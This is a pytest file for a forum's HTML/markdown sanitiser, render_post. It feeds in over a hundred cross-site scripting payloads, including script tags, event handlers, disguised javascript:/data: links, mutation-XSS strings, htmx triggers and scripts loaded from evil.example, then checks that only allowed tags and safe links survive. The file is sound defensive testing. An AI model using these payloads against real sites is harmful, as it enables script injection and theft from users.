"""Hostile markup through `forum.web.text.render_post`, the one sanitiser for posts.

A corpus of well over a hundred attacks (script tags, event handlers, javascript:/data:/
vbscript: links in every disguise, htmx and data attributes, malformed and nested tags, nested
quotes, images, iframes, SVG, style, Unicode tricks and markdown link tricks). Each output is
parsed twice, by the standard library's tolerant parser and by html5lib (the HTML5 algorithm
browsers use), and must hold only the allowed tags with only their allowed attributes; every
link must be an absolute http, https or mailto address with rel="nofollow ugc noopener".
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from bleach._vendor import html5lib  # the HTML5 parsing algorithm, as browsers parse

from forum.web.text import POST_TAGS, render_post

ALLOWED_ATTRIBUTES = {
    "a": {"href", "class", "rel"},
    "p": {"class"},
    "ul": {"class"},
    "ol": {"class"},
    "blockquote": {"class"},
}
CLASSES = {
    "a": "govuk-link",
    "p": "govuk-body",
    "ul": "govuk-list govuk-list--bullet",
    "ol": "govuk-list govuk-list--number",
    "blockquote": "app-quote",
}
SCHEMES = {"http", "https", "mailto"}

# --- the corpus ----------------------------------------------------------------------------

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>window.__pwned=1</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "</p><script>alert(1)</script><p>",
    '<script type="module">import("//evil.example")</script>',
    "**<script>alert(1)</script>**",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "<script>\nalert(1)\n</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<a onclick=alert(1) href=https://a.example>x</a>",
    "<a href=https://a.example onfocus=alert(1) autofocus>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<strong onmouseover=alert(1)>bold</strong>",
    "<em/onpointerenter=alert(1)>x</em>",
    "<blockquote onanimationstart=alert(1)>q</blockquote>",
    "<li onclick=alert(1)>x</li>",
    "<br onload=alert(1)>",
]

ATTRIBUTES = [
    '<a hx-get="/areas/north/moderation" hx-trigger="load">x</a>',
    '<div hx-post="/sign-out" hx-trigger="load"></div>',
    '<p hx-on:click="alert(1)">x</p>',
    '<p hx-on::load="alert(1)">x</p>',
    '<form hx-post="/x" hx-trigger="every 1s"></form>',
    '<a data-hx-get="/x" data-hx-trigger="load">x</a>',
    '<p data-module="govuk-button">x</p>',
    '<p data-x="y" data-hx-boost="true">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p class="govuk-visually-hidden app-danger">x</p>',
    '<p id="main-content">x</p>',
    '<a href="https://a.example" target="_blank">x</a>',
    '<a href="https://a.example" rel="opener">x</a>',
    '<a href="https://a.example" ping="https://evil.example">x</a>',
    '<a href="https://a.example" download>x</a>',
    '<p tabindex="0" autofocus contenteditable>x</p>',
    '<p is="x-evil">x</p>',
    '<p xmlns="http://www.w3.org/1999/xhtml" xml:base="javascript:">x</p>',
]

URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "javascript :alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#9;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript%3Aalert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javas\u0000cript:alert(1)",
    "java\u200bscript:alert(1)",
    "\u202ejavascript:alert(1)",
    "\u0458avascript:alert(1)",  # Cyrillic je
    "\u03f3avascript:alert(1)",  # Greek yot
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)",  # full width
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://evil.example!/",
    "file:///etc/passwd",
    "//evil.example/phish",
    "/areas/north/moderation",
    "https:javascript:alert(1)",
]

URL_FORMS = [
    "[click me]({url})",
    "[click me](<{url}>)",
    "<{url}>",
    "{url}",
    '<a href="{url}">click</a>',
    "[click me][ref]\n\n[ref]: {url}",
]

MALFORMED = [
    '<a href="https://a.example" <b>x</b>',
    '<a href="https://a.example>x</a>',
    "<a href=javascript:alert(1)//>x",
    "<p><p><p><em><strong>x",
    "</em></strong></p></li></ul>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- unclosed comment <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='https://a.example'><a href='javascript:alert(1)'>nested</a></a>",
    "<ul><li><a href=javascript:alert(1)>x</a></li></ul>",
    "<blockquote><blockquote><blockquote><script>alert(1)</script>",
    "<em>" * 200 + "deep" + "</em>" * 200,
    "> " * 100 + "deep quote",
    "<scrip\x00t>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<img src=`x` onerror=`alert(1)`>",
]

TAGS = [
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<img src=https://evil.example/tracker.png>",
    "![tracker](https://evil.example/tracker.png)",
    '![x](https://a.example/x.png "title" onerror=alert(1))',
    "![x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "[![img](https://a.example/i.png)](https://a.example)",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<table><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<h1>big</h1><hr><pre>x</pre><code>y</code>",
    "<dialog open>x</dialog>",
    "<portal src=https://evil.example></portal>",
]

MARKDOWN = [
    '[x](https://a.example "title" onclick="alert(1)")',
    "[x](https://a.example 'a\" onclick=\"b')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/' onmouseover='alert(1))",
    '[x](https://a.example (paren " onclick=alert(1)))',
    '<https://a.example"onclick="alert(1)>',
    "[[x](javascript:alert(1))](https://a.example)",
    "[x](https://a.example)[y](javascript:alert(1))",
    "[x\n](javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](javascript:alert`1`)",
    "[x](javascript:alert&#40;1&#41;)",
    "[x]( javascript:alert(1) )",
    "[<script>alert(1)</script>](https://a.example)",
    "[x](https://a.example/<script>alert(1)</script>)",
    "[x](https://a.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
    'https://a.example/"><script>alert(1)</script>',
    'www.evil.example/"onmouseover="alert(1)',
    "<mailto:a@b.example?subject=<script>>",
    '[mail](mailto:a@b.example"onclick="alert(1))',
    "*[x](javascript:alert(1))*",
    "> [x](javascript:alert(1))",
    "1. [x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n[x]",
    "[x]\n\n[x]: <javascript:alert(1)>",
    '[x]\n\n[x]: https://a.example "t" onclick="alert(1)"',
]

UNICODE = [
    "\u202e<script>alert(1)</script>",
    "\u202etpircs/<)1(trela>tpircs<",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u200bscript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<img\u00a0src=x\u00a0onerror=alert(1)>",
    "<img src=x onerror=alert(1)\u3000>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width angle brackets
    "\u2039script\u203aalert(1)",
    "<\u0455cript>alert(1)</\u0455cript>",  # Cyrillic dze
    "مريم 👩‍👧 בית <script>alert(1)</script>",
    "\U0001f600" * 500,
    "\u0000\u0001\u0002<script>",
    "\ud7ff\ue000\uffff",
]

CASES = (
    SCRIPTS
    + HANDLERS
    + ATTRIBUTES
    + [form.format(url=url) for url in URLS for form in URL_FORMS]
    + MALFORMED
    + TAGS
    + MARKDOWN
    + UNICODE
)


def test_the_corpus_is_large():
    assert len(CASES) > 100
    assert len(set(CASES)) == len(CASES)


# --- checking an output --------------------------------------------------------------------


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def _stdlib_elements(html: str):
    parser = _Collect()
    parser.feed(html)
    parser.close()
    return parser.elements


def _html5_elements(html: str):
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    elements = []
    for element in fragment.iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            continue
        elements.append((element.tag, list(element.attrib.items())))
    return elements


def _scheme(href: str) -> str:
    """The scheme a browser would see: it drops ASCII tab and newline anywhere and C0 controls
    and spaces at either end before parsing."""
    cleaned = re.sub(r"[\t\n\r]", "", href).strip("\x00-\x20")
    return urlsplit(cleaned).scheme.lower()


def assert_safe(html: str) -> None:
    for parse in (_stdlib_elements, _html5_elements):
        for tag, attrs in parse(html):
            assert tag in POST_TAGS, f"{tag} survived in {html!r}"
            names = [name for name, _ in attrs]
            assert set(names) <= ALLOWED_ATTRIBUTES.get(tag, set()), f"{tag} {names}: {html!r}"
            values = dict(attrs)
            if "class" in values:
                assert values["class"] == CLASSES[tag], html
            if tag == "a":
                href = values.get("href") or ""
                assert _scheme(href) in SCHEMES, f"href {href!r} in {html!r}"
                assert href.lower().startswith(("http://", "https://", "mailto:")), html
                assert values.get("rel") == "nofollow ugc noopener", html
            for value in values.values():
                squashed = re.sub(r"[\x00-\x20\u200b\u202e]", "", value or "").lower()
                for bad in ("javascript:", "vbscript:", "data:", "livescript:"):
                    assert not squashed.startswith(bad), html


@pytest.mark.parametrize("source", CASES)
def test_nothing_executable_survives(source):
    html = str(render_post(source))
    assert_safe(html)
    # Whatever came in as markup is at most text now.
    assert "<script" not in html.lower()
    assert not re.search(r"<[a-z]+[^>]*\son\w+\s*=", html, re.IGNORECASE)


@pytest.mark.parametrize("source", CASES)
def test_twice_is_as_safe_as_once(source):
    # Rendering its own output again (as if someone quoted it) is still safe.
    assert_safe(str(render_post(str(render_post(source)))))


# --- and what posts may contain still works -------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("**bold** and _soft_", "<strong>bold</strong> and <em>soft</em>"),
        ("- one\n- two", '<ul class="govuk-list govuk-list--bullet">'),
        ("1. one\n2. two", '<ol class="govuk-list govuk-list--number">'),
        ("> said before", '<blockquote class="app-quote">'),
        ("line one  \nline two", "<br"),
        (
            "[the council](https://www.northshire.example/send)",
            '<a href="https://www.northshire.example/send" class="govuk-link" '
            'rel="nofollow ugc noopener">the council</a>',
        ),
        ("See https://a.org/page?x=1&y=2", 'href="https://a.org/page?x=1&amp;y=2"'),
        ("[write to us](mailto:hello@forum.example)", 'href="mailto:hello@forum.example"'),
        ("3 < 4 & 5 > 2", "3 &lt; 4 &amp; 5 &gt; 2"),
        ("مريم 👩‍👧 בית", "مريم 👩‍👧 בית"),
    ],
)
def test_allowed_markdown_still_works(source, expected):
    html = str(render_post(source))
    assert expected in html
    assert_safe(html)


@pytest.mark.parametrize(
    "source",
    ["[x](/areas/north/moderation)", "[x](//evil.example/phish)", "[x](javascript:alert(1))"],
)
def test_links_that_are_not_absolute_web_or_mail_addresses_keep_only_their_words(source):
    html = str(render_post(source))
    assert "<a" not in html
